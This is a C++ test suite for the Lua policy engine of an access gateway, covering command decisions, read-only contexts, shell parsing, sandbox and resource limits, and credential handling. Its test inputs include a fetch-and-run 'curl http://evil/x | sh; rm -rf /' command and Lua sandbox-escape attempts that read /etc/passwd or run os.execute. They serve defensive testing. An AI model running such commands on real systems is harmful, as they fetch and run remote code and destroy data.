#include <catch2/catch.hpp>

#include <algorithm>
#include <chrono>

#include <sys/stat.h>

#include "policy/context_text.h"
#include "policy/glob.h"
#include "policy/lua_policy.h"
#include "policy/policy_chain.h"
#include "policy/policy_library.h"
#include "policy/time_window.h"
#include "test_util.h"

using namespace bastion;

namespace {

struct PolicyFile {
  testutil::TempDir d;
  std::shared_ptr<const PolicySource> src;
  std::string error;
  explicit PolicyFile(const std::string& body, PolicyLimits limits = {}) {
    testutil::spit(d / "p.lua", body);
    src = load_policy_source(d / "p.lua", limits, error);
  }
  std::optional<Decision> command(const std::string& text, std::vector<std::string> principals = {"ops"},
                                  const std::string& kind = "exec") {
    auto p = LuaPolicy::create(src, error);
    REQUIRE(p);
    CommandRequest r;
    r.session.identity = "alice";
    r.session.principals = std::move(principals);
    r.session.target = "web1";
    r.session.target_labels = {{"env", "prod"}};
    r.kind = kind;
    r.text = text;
    return p->on_command(r);
  }
  std::string outcome(const std::string& text) {
    auto d = command(text);
    return d ? std::string(d->name()) + ":" + d->reason : "nil";
  }
};

bool is_policy_error(const std::optional<Decision>& d) {
  return d && d->verdict == Decision::Verdict::deny && d->reason.rfind("policy error (ref ", 0) == 0;
}

}  // namespace

TEST_CASE("decisions, reasons and where they came from", "[policy]") {
  PolicyFile f(R"(
function on_command(c)
  if c.text == "a" then return allow() end
  if c.text == "d" then return deny("no way") end
  if c.text == "r" then return review{ reason = "check", approvers = { "lead" }, timeout = 60 } end
  if c.text == "m" then return allow{ mask = { "secret\\d+" } } end
  if c.text == "r5m" then return review{ approvers = { "lead" }, timeout = "5m" } end
  if c.text == "rbad" then return review{ approvers = { "lead" }, timeout = "5 minutes" } end
  if c.text == "idle" then return allow{ idle_timeout = "2h", max_session_length = 90 } end
  return nil
end)");
  REQUIRE(f.src);
  auto d = f.command("d");
  REQUIRE(d);
  CHECK(d->verdict == Decision::Verdict::deny);
  CHECK(d->reason == "no way");
  CHECK(d->source == f.d / "p.lua" + ":4");
  CHECK(d->hook == Decision::Hook::on_command);
  CHECK(std::string(d->hook_name()) == "on_command");
  CHECK(d->policy_hash == f.src->hash);
  d = f.command("r");
  CHECK(d->verdict == Decision::Verdict::review);
  CHECK(d->approvers == std::vector<std::string>{"lead"});
  CHECK(d->review_timeout == 60);
  // Times in decisions take the config's duration strings too.
  d = f.command("r5m");
  CHECK(d->review_timeout == 300);
  d = f.command("rbad");
  REQUIRE(d);
  CHECK(d->verdict == Decision::Verdict::deny);
  CHECK(d->reason.find("policy error") != std::string::npos);
  d = f.command("idle");
  CHECK(d->options.idle_timeout == 7200);
  CHECK(d->options.max_session_length == 90);
  d = f.command("m");
  CHECK(d->verdict == Decision::Verdict::mask);
  REQUIRE(d->mask.size() == 1);
  CHECK(d->mask[0].pattern == "secret\\d+");
  CHECK(f.command("a")->verdict == Decision::Verdict::allow);
  CHECK_FALSE(f.command("x"));
}

TEST_CASE("the context is complete and read-only", "[policy]") {
  PolicyFile f(R"(
function on_command(c)
  if c.text == "write" then c.text = "x" end
  if c.text == "nested" then c.principals[1] = "root" end
  if c.text == "meta" then setmetatable(c, {}) end
  if c.text == "raw" then rawset(c, "text", "x") end
  local parts = {}
  for _, p in ipairs(c.parts) do parts[#parts + 1] = table.concat(p.argv, " ") end
  return deny(table.concat({ c.identity, c.principals[1], #c.principals, c.target.name, c.target.labels.env,
                             c.kind, #c.argv, table.concat(parts, "|"), type(c.time) }, ","))
end)");
  REQUIRE(f.src);
  CHECK(f.outcome("ls -l; rm x") == "deny:alice,ops,1,web1,prod,exec,5,ls -l|rm x,number");
  CHECK(is_policy_error(f.command("write")));
  CHECK(is_policy_error(f.command("nested")));
  CHECK(is_policy_error(f.command("meta")));
  CHECK(is_policy_error(f.command("raw")));
}

TEST_CASE("the shell fields are built on first use, listed by pairs, and read-only", "[policy]") {
  // argv, parts, programs, opaque, complete and parse_error are built when
  // one of them is first read (most SQL/kubectl/HTTP policies never do).
  PolicyFile f(R"(
function on_command(c)
  if c.text == "write" then local _ = c.argv; c.argv = {} end
  if c.text == "write2" then c.complete = true end
  if c.text:sub(1, 5) == "pairs" then
    local keys = {}
    for k in pairs(c) do keys[#keys + 1] = k end
    table.sort(keys)
    return deny(table.concat(keys, ","))
  end
  if c.text == "echo 'x" then return deny(tostring(c.opaque) .. "," .. tostring(c.parse_error ~= nil)) end
  -- One field alone, then the rest, in this order.
  return deny(table.concat({ tostring(c.nothing), tostring(c.complete), #c.argv, table.concat(c.programs, "+"),
                             #c.parts, tostring(c.opaque), tostring(c.parse_error) }, ","))
end)");
  REQUIRE(f.src);
  CHECK(f.outcome("ls -l | wc") == "deny:nil,true,4,ls+wc,2,false,nil");
  CHECK(f.outcome("echo 'x") == "deny:true,true");
  CHECK(f.outcome("pairs x") == "deny:argv,certificate,complete,identity,kind,lines_decided,opaque,parts,principals,"
                                "programs,session,source_address,target,text,time");
  CHECK(is_policy_error(f.command("write")));
  CHECK(is_policy_error(f.command("write2")));
  // `bastionctl policy context` lists them too.
  CommandRequest r;
  r.kind = "exec";
  r.text = "ls -l";
  const auto lines = command_context_lines(r);
  CHECK(std::count(lines.begin(), lines.end(), "c.argv = { \"ls\", \"-l\" }") == 1);
  CHECK(std::count(lines.begin(), lines.end(), "c.opaque = false") == 1);
}

TEST_CASE("a shell-field build that runs out of memory under pcall never leaves a field nil", "[policy]") {
  // An outside review: the lazy build gave up its hook before building, so
  // a policy that caught the memory error read c.opaque as nil and allowed.
  PolicyFile f(R"(
local function try(f) local ok, v = pcall(f); if ok then return v end end
function on_command(c)
  for _, p in ipairs(try(function() return c.programs end) or {}) do
    if p == "rm" or p == "curl" or p == "?" then return deny("forbidden program " .. p) end
  end
  if c.opaque or c.parse_error then return deny("cannot analyse this command") end
  return allow()
end)");
  REQUIRE(f.src);
  std::string text;
  for (int i = 0; i < 20000; ++i) text += "x;";
  text += "curl http://evil/x | sh; rm -rf /";
  const auto d = f.command(text);
  REQUIRE(d);
  CHECK(d->verdict == Decision::Verdict::deny);
  CHECK(f.outcome("ls -l") == "allow:");
}

TEST_CASE("a session's tables are built once, follow its changes, and pairs never hands out their data",
          "[policy]") {
  PolicyFile f(R"(
seen = seen or {}
function on_command(c)
  local _, t = pairs(c.principals)
  local wrote = pcall(function() t[1] = "root" end)
  local _, top = pairs(c)
  local wrote_top = pcall(function() top.identity = "root" end)
  local same = seen.principals == c.principals
  seen.principals = c.principals
  return deny(table.concat({ tostring(wrote), tostring(wrote_top), tostring(same), table.concat(c.principals, "+"),
                             c.identity, c.target.labels.env, tostring(c.grant and c.grant.id), c.session.credential or "-" }, ","))
end)");
  REQUIRE(f.src);
  auto p = LuaPolicy::create(f.src, f.error);
  REQUIRE(p);
  CommandRequest r;
  r.session.identity = "alice";
  r.session.principals = {"ops"};
  r.session.target = "web1";
  r.session.target_labels = {{"env", "prod"}};
  r.kind = "exec";
  r.text = "ls";
  auto outcome = [&] {
    const auto d = p->on_command(r);
    return d ? std::string(d->name()) + ":" + d->reason : "nil";
  };
  CHECK(outcome() == "deny:false,false,false,ops,alice,prod,nil,-");
  CHECK(outcome() == "deny:false,false,true,ops,alice,prod,nil,-");  // the same tables, unchanged
  r.session.principals = {"ops", "dba"};
  CHECK(outcome() == "deny:false,false,false,ops+dba,alice,prod,nil,-");
  r.session.target_labels = {{"env", "staging"}};
  r.session.grant = SessionRequest::Grant{.id = 7, .approver = "lead", .reason = "fix", .expires_at = 99};
  r.session.credential = "readonly";
  CHECK(outcome() == "deny:false,false,false,ops+dba,alice,staging,7,readonly");
  r.session.grant.reset();
  r.session.identity = "bob";  // not in a shared table: read afresh every time
  CHECK(outcome() == "deny:false,false,false,ops+dba,bob,staging,nil,readonly");
  CHECK(outcome() == "deny:false,false,true,ops+dba,bob,staging,nil,readonly");
}

TEST_CASE("c.parts carries the fail-closed analysis, read-only", "[policy]") {
  PolicyFile f(R"(
local function flag(p, k) return p[k] and k or "" end
function on_command(c)
  if c.text == "write" then c.parts[1].program = "ls" end
  local out = {}
  for _, p in ipairs(c.parts) do
    out[#out + 1] = table.concat({ tostring(p.program), table.concat(p.args or {}, " "), table.concat(p.wrappers, "+"),
      p.sudo and p.sudo.user or "-", tostring(p.opaque), tostring(p.via), table.concat(p.writes, "+"),
      flag(p, "dynamic_args") .. flag(p, "globs") .. flag(p, "interpreter") .. flag(p, "reads_script") ..
      flag(p, "pipe_into_shell") .. flag(p, "changes_shell") }, ",")
  end
  return deny(table.concat(out, "|") .. "#" .. table.concat(c.programs, "+") .. "#" .. tostring(c.opaque))
end)");
  REQUIRE(f.src);
  CHECK(f.outcome("sudo -u bob nice rm -rf *.log > out") ==
        "deny:rm,rm -rf *.log,sudo+nice,bob,nil,nil,out,globs#rm#false");
  CHECK(f.outcome("$'rm' x") == "deny:nil,,,-,ANSI-C quoting in command position,nil,,#?#true");
  CHECK(f.outcome("echo x | bash") == "deny:echo,echo x,,-,nil,nil,,|bash,bash,,-,nil,nil,,"
                                      "interpreterreads_scriptpipe_into_shell#echo+bash#false");
  CHECK(f.outcome("bash -c 'rm D'") == "deny:bash,bash -c rm D,,-,nil,nil,,|rm,rm D,,-,nil,bash -c,,#bash+rm#false");
  CHECK(f.outcome("echo 'x") == "deny:echo,echo,,-,nil,nil,,#echo#true");  // parse_error: opaque
  CHECK(is_policy_error(f.command("write")));
}

TEST_CASE("c.complete says whether a shell would wait for more (PS2)", "[policy][complete]") {
  PolicyFile f(R"(
function on_command(c) return deny(tostring(c.complete)) end)");
  REQUIRE(f.src);
  CHECK(f.outcome("ls -la") == "deny:true");
  CHECK(f.outcome("for i in 1 2; do") == "deny:false");
  CHECK(f.outcome("cat <<EOF\nbody\n") == "deny:false");
  CHECK(f.outcome("echo 'open") == "deny:false");
  CHECK(f.outcome("fi") == "deny:true");  // a hard error: submitted, parse_error shows it
}

TEST_CASE("sandbox escapes fail", "[policy][sandbox]") {
  const char* attempts[] = {
      "io.open('/etc/passwd')",
      "os.execute('id')",
      "debug.getinfo(1)",
      "package.loadlib('x','y')",
      "require('os')",
      "load('return 1')()",
      "loadfile('/etc/passwd')",
      "dofile('/etc/passwd')",
      "string.dump(function() end)",
      "(''):dump()",
      "getmetatable('').__index.dump(print)",
      "collectgarbage('count')",
      "print('x')",
      "coroutine.wrap(function() end)",
      "import('../etc/passwd')",
      "import('nosuchmodule')",
  };
  for (const char* a : attempts) {
    PolicyFile f(std::string("function on_command(c)\n  ") + a + "\n  return allow()\nend\n");
    INFO(a);
    REQUIRE(f.src);
    CHECK(is_policy_error(f.command("x")));
  }
  // Bytecode is refused when loading.
  PolicyFile bin(std::string("\x1bLua\x54\x00", 6));
  CHECK_FALSE(bin.src);
  CHECK(bin.error.find("attempt to load a binary chunk") != std::string::npos);
}

TEST_CASE("runaway scripts are stopped within their budget", "[policy][sandbox]") {
  PolicyLimits lim;
  lim.time = std::chrono::milliseconds(50);
  lim.memory = 8u << 20;
  PolicyFile f(R"(
function on_command(c)
  if c.text == "loop" then while true do end end
  if c.text == "mem" then local t = {} for i = 1, 1e9 do t[i] = ("x"):rep(100) .. i end end
  if c.text == "rep" then return deny(("x"):rep(1e9)) end
  if c.text == "pattern" then return deny(tostring(string.find(string.rep("a", 200), ".-.-.-b"))) end
  if c.text == "gsub" then return deny(tostring(("a"):rep(5000):gsub("(a*)*b", "x"))) end
  return allow()
end)", lim);
  REQUIRE(f.src);
  for (const char* t : {"loop", "mem", "rep", "pattern", "gsub"}) {
    INFO(t);
    const auto start = std::chrono::steady_clock::now();
    CHECK(is_policy_error(f.command(t)));
    CHECK(std::chrono::steady_clock::now() - start < std::chrono::milliseconds(500));
  }
  // The state keeps working after each failure.
  CHECK(f.command("ok")->verdict == Decision::Verdict::allow);
}

TEST_CASE("pattern cost guard lets ordinary patterns through", "[policy]") {
  CHECK(pattern_cost("rm -rf /", "^rm%s+%-rf") < kMaxPatternCost);
  CHECK(pattern_cost(std::string(4000, 'a'), "error") < kMaxPatternCost);
  CHECK(pattern_cost(std::string(200, 'a'), ".-.-.-b") > kMaxPatternCost);
  PolicyFile f(R"(
function on_command(c)
  if c.text:match("^sudo%s") then return deny("sudo") end
  if c.text:find("rm -rf", 1, true) then return deny("plain find") end
  if bastion.match([[(?i)drop\s+table]], c.text) then return deny("re2") end
  if bastion.glob("*.sql", c.argv[#c.argv] or "") then return deny("glob") end
  return allow()
end)");
  REQUIRE(f.src);
  CHECK(f.outcome("sudo id") == "deny:sudo");
  CHECK(f.outcome("x; rm -rf /") == "deny:plain find");
  CHECK(f.outcome("psql -c 'DROP   table x'") == "deny:re2");
  CHECK(f.outcome("psql -f dump.sql") == "deny:glob");
  CHECK(f.outcome("ls") == "allow:");
}

TEST_CASE("broken policies are refused with file and line", "[policy]") {
  PolicyFile syntax("function on_command(c)\n  return allow(\nend\n");
  CHECK_FALSE(syntax.src);
  CHECK(syntax.error == syntax.d / "p.lua" + ":3: unexpected symbol near 'end'");
  PolicyFile runtime("local x = nil\nx.y = 1\n");
  CHECK_FALSE(runtime.src);
  CHECK(runtime.error.find(runtime.d / "p.lua" + ":2: attempt to index") == 0);
  PolicyFile not_fn("on_command = 5\n");
  CHECK_FALSE(not_fn.src);
  CHECK(not_fn.error == not_fn.d / "p.lua" + ": on_command must be a function");
  PolicyFile bad_return("function on_command(c) return 'yes' end\n");
  REQUIRE(bad_return.src);
  CHECK(is_policy_error(bad_return.command("x")));
  PolicyFile bad_mask("function on_command(c) return allow{ mask = { '(unclosed' } } end\n");
  CHECK(is_policy_error(bad_mask.command("x")));
}

TEST_CASE("modules come from the policy's folder, snapshotted at load", "[policy]") {
  testutil::TempDir d;
  testutil::spit(d / "lib.lua", "return { word = 'first' }\n");
  testutil::spit(d / "p.lua", "local lib = import('lib')\nfunction on_command(c) return deny(lib.word) end\n");
  std::string err;
  auto src = load_policy_source(d / "p.lua", {}, err);
  REQUIRE(src);
  CHECK(src->modules.count("lib") == 1);
  testutil::spit(d / "lib.lua", "return { word = 'second' }\n");  // on disk only; needs a reload
  auto p = LuaPolicy::create(src, err);
  REQUIRE(p);
  CHECK(p->on_command(CommandRequest{})->reason == "first");
}

TEST_CASE("combining decisions: the stricter wins, masks accumulate", "[policy]") {
  auto make = [](Decision::Verdict v, const char* why, std::vector<MaskRule> m = {}) {
    Decision d;
    d.verdict = v;
    d.reason = why;
    d.mask = std::move(m);
    return d;
  };
  using V = Decision::Verdict;
  CHECK(combine(make(V::allow, "a"), make(V::deny, "d"))->reason == "d");
  CHECK(combine(make(V::review, "r"), make(V::deny, "d"))->verdict == V::deny);
  CHECK(combine(make(V::review, "r"), make(V::mask, "m", {{"x", "*"}}))->verdict == V::review);
  // Held, the other layer's masks wait with it: approved, the command runs masked.
  CHECK(combine(make(V::review, "r"), make(V::mask, "m", {{"x", "*"}}))->mask.size() == 1);
  CHECK(combine(make(V::mask, "m", {{"x", "*"}}), make(V::review, "r"))->mask.size() == 1);
  CHECK(combine(make(V::deny, "d"), make(V::mask, "m", {{"x", "*"}}))->mask.empty());
  auto m = combine(make(V::allow, "a"), make(V::mask, "m", {{"x", "*"}}));
  CHECK(m->verdict == V::mask);
  CHECK(m->mask.size() == 1);
  auto both = combine(make(V::mask, "1", {{"a", "*"}}), make(V::mask, "2", {{"b", "*"}}));
  CHECK(both->mask.size() == 2);
  CHECK(combine(std::nullopt, make(V::allow, "a"))->reason == "a");
  CHECK_FALSE(combine(std::nullopt, std::nullopt));
}

TEST_CASE("the chain falls back to policy_default", "[policy]") {
  PolicyFile f("function on_command(c) return nil end\n");
  REQUIRE(f.src);
  std::string err;
  auto deny_chain = PolicyChain::create(f.src, nullptr, Decision::Verdict::deny, err);
  auto allow_chain = PolicyChain::create(f.src, nullptr, Decision::Verdict::allow, err);
  CHECK(deny_chain->decide(CommandRequest{}).verdict == Decision::Verdict::deny);
  CHECK(deny_chain->decide(CommandRequest{}).hook == Decision::Hook::default_verdict);
  CHECK(std::string(deny_chain->decide(CommandRequest{}).hook_name()) == "default");
  CHECK(allow_chain->decide(CommandRequest{}).verdict == Decision::Verdict::allow);
}

TEST_CASE("glob is bounded and correct", "[policy]") {
  CHECK(glob_match("*.sql", "dump.sql"));
  CHECK_FALSE(glob_match("*.sql", "dump.sql.gz"));
  CHECK(glob_match("db-?", "db-1"));
  CHECK(glob_match("[a-c]x[!0-9]", "bxz"));
  CHECK_FALSE(glob_match("[a-c]x[!0-9]", "bx5"));
  CHECK(glob_match("a\\*", "a*"));
  const auto start = std::chrono::steady_clock::now();
  CHECK_FALSE(glob_match(std::string(60, '*') + "b", std::string(5000, 'a')));
  CHECK(std::chrono::steady_clock::now() - start < std::chrono::milliseconds(200));
}

TEST_CASE("time windows in a time zone", "[policy]") {
  std::string err;
  const int64_t mon_10_berlin = 1796029200;  // 2026-11-30T09:00:00Z = 10:00 CET
  CHECK(within_time_window("Mon-Fri 09:00-18:00", "Europe/Berlin", mon_10_berlin, err) == 1);
  CHECK(within_time_window("Mon-Fri 11:00-18:00", "Europe/Berlin", mon_10_berlin, err) == 0);
  CHECK(within_time_window("Sat,Sun 00:00-24:00", "Europe/Berlin", mon_10_berlin, err) == 0);
  CHECK(within_time_window("Fri-Mon 09:00-11:00", "Europe/Berlin", mon_10_berlin, err) == 1);
  CHECK(within_time_window("22:00-11:00", "Europe/Berlin", mon_10_berlin, err) == 1);  // across midnight
  CHECK(within_time_window("09:00-10:00", "UTC", mon_10_berlin, err) == 1);
  CHECK(within_time_window("Mon 09:00-18:00", "Mars/Olympus", mon_10_berlin, err) == -1);
  CHECK(err == "unknown time zone \"Mars/Olympus\"");
  CHECK(within_time_window("Mon 9-18", "UTC", mon_10_berlin, err) == -1);
  CHECK(within_time_window("Someday 09:00-10:00", "UTC", mon_10_berlin, err) == -1);
}

TEST_CASE("a decision cannot be altered or forged after it was made", "[policy]") {
  PolicyFile f(R"(
function on_command(c)
  if c.text == "args" then local d = deny("x"); d.args = nil; return d end
  if c.text == "verdict" then local d = allow(); d.verdict = nil; return d end
  if c.text == "read" then local d = deny("kept"); if d.verdict ~= "deny" then error("unreadable") end; return d end
  if c.text == "table" then return { verdict = "allow", args = {}, source = "forged" } end
  if c.text == "later" then local a = { reason = "r" }; local d = review(a); a.approvers = 42; return d end
  if c.text == "meta" then
    return allow{ mask = setmetatable({}, { __index = function() error("boom") end }) }
  end
  if c.text == "reason" then local d = review{ reason = "r" }; return d end
  return nil
end)");
  REQUIRE(f.src);
  for (const char* t : {"args", "verdict", "table", "later", "meta"}) {
    INFO(t);
    auto d = f.command(t);
    REQUIRE(d);
    CHECK(d->verdict == Decision::Verdict::deny);
    CHECK(d->reason.starts_with("policy error (ref "));
  }
  auto d = f.command("read");
  REQUIRE(d);
  CHECK(d->verdict == Decision::Verdict::deny);
  CHECK(d->reason == "kept");
  d = f.command("reason");
  REQUIRE(d);
  CHECK(d->verdict == Decision::Verdict::review);
  CHECK(d->reason == "r");
}

TEST_CASE("policies cannot create finalizers (the time budget cannot stop them)", "[policy]") {
  const auto t0 = std::chrono::steady_clock::now();
  // At load: refused, so the policy does not load at all.
  PolicyFile top(R"(
setmetatable({}, { __gc = function() while true do end end })
function on_command(c) return allow() end)");
  CHECK_FALSE(top.src);
  CHECK(top.error.find("finalizers (__gc) are not available to policies") != std::string::npos);
  // Per command: a policy error, which denies.
  PolicyFile per(R"(
function on_command(c)
  if c.text == "gc" then setmetatable({}, { __gc = function() while true do end end }) end
  return setmetatable({}, { __index = {} }) and allow()
end)");
  REQUIRE(per.src);
  CHECK(is_policy_error(per.command("gc")));
  CHECK(per.outcome("plain") == "allow:");
  CHECK(std::chrono::steady_clock::now() - t0 < std::chrono::seconds(2));
}

TEST_CASE("plain string.find is cost-guarded too; a mask naming nothing is an error", "[policy]") {
  PolicyFile f(R"(
function on_command(c)
  if c.text == "find" then
    local big = string.rep("a", 200000)
    string.find(big, string.rep("a", 5000) .. "b", 1, true)
    return allow()
  end
  if c.text == "small" then return string.find("abc", "b", 1, true) == 2 and allow() or deny("no") end
  if c.text == "cols" then return allow{ mask = { columns = {} } } end
  if c.text == "both" then return allow{ mask = { columns = {}, patterns = {} } } end
  return nil
end)");
  REQUIRE(f.src);
  const auto t0 = std::chrono::steady_clock::now();
  CHECK(is_policy_error(f.command("find")));
  CHECK(std::chrono::steady_clock::now() - t0 < std::chrono::seconds(1));
  CHECK(f.outcome("small") == "allow:");
  CHECK(is_policy_error(f.command("cols")));
  CHECK(is_policy_error(f.command("both")));
}

TEST_CASE("combined session options keep the stricter limit of each side", "[policy]") {
  using V = Decision::Verdict;
  Decision global = Decision::allow("");
  global.options.idle_timeout = 2;
  global.options.max_session_length = 3;
  global.options.record_input = true;
  Decision target = Decision::allow("");
  target.verdict = V::mask;
  target.mask.push_back({"zzzz", "****"});
  target.options.idle_timeout = 0;  // "none" must not lift the global limit
  target.options.max_session_length = 10;
  target.options.record_input = false;
  const auto c = combine(global, target);
  REQUIRE(c);
  CHECK(c->options.idle_timeout == 2);
  CHECK(c->options.max_session_length == 3);
  CHECK(c->options.record_input == true);
  Decision only_target = Decision::allow("");
  only_target.options.idle_timeout = 5;
  CHECK(combine(Decision::allow(""), only_target)->options.idle_timeout == 5);
}

TEST_CASE("a policy or module that is not a regular file is refused at once", "[policy]") {
  testutil::TempDir d;
  const std::string fifo = d / "p.lua";
  REQUIRE(mkfifo(fifo.c_str(), 0600) == 0);
  std::string error;
  const auto t0 = std::chrono::steady_clock::now();
  CHECK_FALSE(load_policy_source(fifo, PolicyLimits{}, error));
  CHECK(error == fifo + ": cannot read policy: not a regular file");
  testutil::spit(d / "q.lua", "import(\"m\")\nfunction on_command(c) return allow() end\n");
  REQUIRE(mkfifo((d / "m.lua").c_str(), 0600) == 0);
  CHECK_FALSE(load_policy_source(d / "q.lua", PolicyLimits{}, error));
  CHECK(error.find("cannot read module") != std::string::npos);
  CHECK(std::chrono::steady_clock::now() - t0 < std::chrono::seconds(2));
}

TEST_CASE("on_session chooses a held credential; the chain keeps it consistent", "[policy][credential]") {
  PolicyFile f(R"(
function on_session(s)
  if s.principals[1] == "analyst" then return allow{ credential = "readonly" } end
  if s.principals[1] == "bad" then return allow{ credential = "read-only" } end
  if s.principals[1] == "num" then return allow{ credential = 7 } end
  return allow()
end
function on_command(c)
  if c.text == "pick" then return allow{ credential = "admin" } end
  return allow{ reason = "as " .. tostring(c.session.credential) }
end)");
  REQUIRE(f.src);
  auto p = LuaPolicy::create(f.src, f.error);
  REQUIRE(p);
  SessionRequest s;
  s.principals = {"analyst"};
  auto d = p->on_session(s);
  REQUIRE(d);
  CHECK(d->verdict == Decision::Verdict::allow);
  CHECK(d->credential == "readonly");
  s.principals = {"ops"};
  CHECK(p->on_session(s)->credential.empty());  // none named: the session uses "default"
  for (const char* who : {"bad", "num"}) {  // not a credential name: a policy error, so deny
    s.principals = {who};
    const auto bad = p->on_session(s);
    CHECK(is_policy_error(bad));
    CHECK(bad->credential.empty());
  }
  // Later command decisions see the session's credential...
  CommandRequest r;
  r.session.credential = "readonly";
  r.text = "x";
  CHECK(p->on_command(r)->reason == "as readonly");
  r.session.credential.clear();
  CHECK(p->on_command(r)->reason == "as nil");
  // ...and cannot pick one: the session connected with its credential already.
  r.text = "pick";
  CHECK(is_policy_error(p->on_command(r)));

  using V = Decision::Verdict;
  auto with = [](V v, std::string cred) {
    Decision x;
    x.verdict = v;
    x.credential = std::move(cred);
    x.hook = Decision::Hook::on_session;
    return x;
  };
  CHECK(combine(with(V::allow, "readonly"), with(V::allow, ""))->credential == "readonly");
  CHECK(combine(with(V::allow, ""), with(V::mask, "readonly"))->credential == "readonly");
  CHECK(combine(with(V::allow, "readonly"), with(V::allow, "readonly"))->verdict == V::allow);
  const auto clash = combine(with(V::allow, "readonly"), with(V::allow, "admin"));
  REQUIRE(clash);
  CHECK(clash->verdict == V::deny);
  CHECK(clash->reason == "the policies chose different credentials (\"readonly\" and \"admin\")");
  CHECK(combine(with(V::deny, "readonly"), with(V::allow, ""))->verdict == V::deny);
}

TEST_CASE("a policy chain denies a session whose layers name different credentials", "[policy][credential]") {
  testutil::TempDir d;
  testutil::spit(d / "g.lua", "function on_session(s) return allow{ credential = 'readonly' } end\n");
  testutil::spit(d / "t.lua", "function on_session(s) return allow{ credential = 'admin' } end\n");
  testutil::spit(d / "u.lua", "function on_session(s) return allow{ credential = 'readonly' } end\n");
  std::string err;
  auto g = load_policy_source(d / "g.lua", {}, err), t = load_policy_source(d / "t.lua", {}, err),
       u = load_policy_source(d / "u.lua", {}, err);
  REQUIRE((g && t && u));
  auto clash = PolicyChain::create(g, t, Decision::Verdict::deny, err);
  REQUIRE(clash);
  const Decision dc = clash->decide_session(SessionRequest{});
  CHECK(dc.verdict == Decision::Verdict::deny);
  CHECK(dc.reason == "the policies chose different credentials (\"readonly\" and \"admin\")");
  auto agree = PolicyChain::create(g, u, Decision::Verdict::deny, err);
  REQUIRE(agree);
  const Decision da = agree->decide_session(SessionRequest{});
  CHECK(da.verdict == Decision::Verdict::allow);
  CHECK(da.credential == "readonly");
}

TEST_CASE("on_session tells a target listing from a session (s.session.listing)", "[policy][i16]") {
  // The picker and an unknown target's refusal run on_session per target to
  // list them, with no audit row: a policy can tell (bastion-policy(5)).
  testutil::TempDir d;
  testutil::spit(d / "p.lua",
                 "function on_session(s) return deny(type(s.session.listing) .. ':' .. tostring(s.session.listing)) end\n");
  std::string err;
  auto src = load_policy_source(d / "p.lua", {}, err);
  REQUIRE(src);
  auto chain = PolicyChain::create(src, nullptr, Decision::Verdict::deny, err);
  REQUIRE(chain);
  SessionRequest r;
  CHECK(chain->decide_session(r).reason == "boolean:false");
  r.listing = true;
  CHECK(chain->decide_session(r).reason == "boolean:true");
}
